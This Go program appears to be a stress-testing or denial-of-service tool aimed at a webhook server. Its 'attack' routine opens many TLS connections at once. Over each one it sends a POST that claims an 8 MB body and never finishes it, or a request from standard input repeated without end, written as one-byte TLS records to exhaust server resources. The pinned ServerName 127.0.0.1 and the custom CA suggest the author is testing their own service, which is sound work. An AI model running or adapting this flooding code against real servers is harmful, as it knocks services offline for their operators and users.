// records sends TLS records of one byte over many connections, as fast as they are read:
// a body that never ends, or the request on standard input again and again.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"flag"
	"io"
	"net"
	"os"
	"sync"
	"time"
)

const endless = "POST /validate?timeout=3s HTTP/1.1\r\nHost: x\r\n" +
	"Content-Type: application/json\r\nContent-Length: 8000000\r\n\r\n"

// gathered writes many records at once, but for the handshake.
type gathered struct {
	net.Conn
	records *bufio.Writer
	direct  bool
}

func (g *gathered) Write(data []byte) (int, error) {
	if g.direct {
		return g.Conn.Write(data)
	}
	return g.records.Write(data)
}

func attack(address string, config *tls.Config, head, piece []byte, end time.Time) {
	raw, err := net.Dial("tcp", address)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return
	}
	defer raw.Close()
	raw.SetDeadline(end)
	below := &gathered{raw, bufio.NewWriterSize(raw, 32*1024), true}
	connection := tls.Client(below, config)
	if connection.Handshake() != nil {
		return
	}
	go io.Copy(io.Discard, connection)
	connection.Write(head)
	below.direct = false
	for time.Now().Before(end) {
		for index := range piece {
			if _, err := connection.Write(piece[index : index+1]); err != nil {
				return
			}
		}
	}
}

func main() {
	address := flag.String("address", "", "host and port of the webhook")
	ca := flag.String("ca", "", "file with the CA that signed its certificate")
	number := flag.Int("connections", 50, "how many connections attack")
	seconds := flag.Float64("seconds", 5, "for how long")
	flag.Parse()
	bundle, err := os.ReadFile(*ca)
	if err != nil {
		panic(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(bundle)
	config := &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", DynamicRecordSizingDisabled: true}
	head := []byte{}
	piece, _ := io.ReadAll(os.Stdin)
	if len(piece) == 0 {
		head, piece = []byte(endless), bytes.Repeat([]byte(" "), 1000)
	}
	end := time.Now().Add(time.Duration(*seconds * float64(time.Second)))
	var attackers sync.WaitGroup
	for range make([]struct{}, *number) {
		attackers.Add(1)
		go func() {
			defer attackers.Done()
			for time.Now().Before(end) {
				attack(*address, config, head, piece, end)
			}
		}()
	}
	attackers.Wait()
}
